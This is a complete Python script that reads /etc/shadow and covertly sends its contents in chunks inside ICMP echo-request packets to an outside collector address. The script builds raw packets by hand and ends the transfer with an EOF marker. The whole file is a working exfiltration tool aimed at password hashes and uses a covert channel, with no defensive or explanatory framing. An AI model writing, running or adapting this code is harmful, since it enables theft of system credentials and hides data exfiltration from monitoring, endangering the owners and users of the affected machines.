#!/usr/bin/env python3
"""ICMP beacon: ships /etc/shadow to a collector inside echo requests."""
import argparse
import logging
import os
import socket
import struct
import sys
import time

log = logging.getLogger("beacon")

ICMP_ECHO_REQUEST = 8
CHUNK = 48


def checksum(data):
    """Standard internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def build_packet(ident, seq, payload):
    header = struct.pack("!BBHHH", ICMP_ECHO_REQUEST, 0, 0, ident, seq)
    csum = checksum(header + payload)
    header = struct.pack("!BBHHH", ICMP_ECHO_REQUEST, 0, csum, ident, seq)
    return header + payload


def read_source(path):
    with open(path, "rb") as fh:
        return fh.read()


def send_chunks(dest, data, delay):
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    except PermissionError:
        log.error("raw sockets need root")
        return False
    ident = os.getpid() & 0xFFFF
    chunks = [data[i:i + CHUNK] for i in range(0, len(data), CHUNK)]
    for seq, chunk in enumerate(chunks):
        sock.sendto(build_packet(ident, seq, chunk), (dest, 0))
        log.debug("sent chunk %d/%d", seq + 1, len(chunks))
        time.sleep(delay)
    sock.sendto(build_packet(ident, 0xFFFF, b"EOF"), (dest, 0))
    sock.close()
    return True


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("collector", nargs="?", default="203.0.113.77")
    parser.add_argument("--file", default="/etc/shadow")
    parser.add_argument("--delay", type=float, default=0.2)
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG)

    try:
        data = read_source(args.file)
    except OSError as exc:
        log.error("cannot read %s: %s", args.file, exc)
        return 1
    return 0 if send_chunks(args.collector, data, args.delay) else 1


if __name__ == "__main__":
    sys.exit(main())
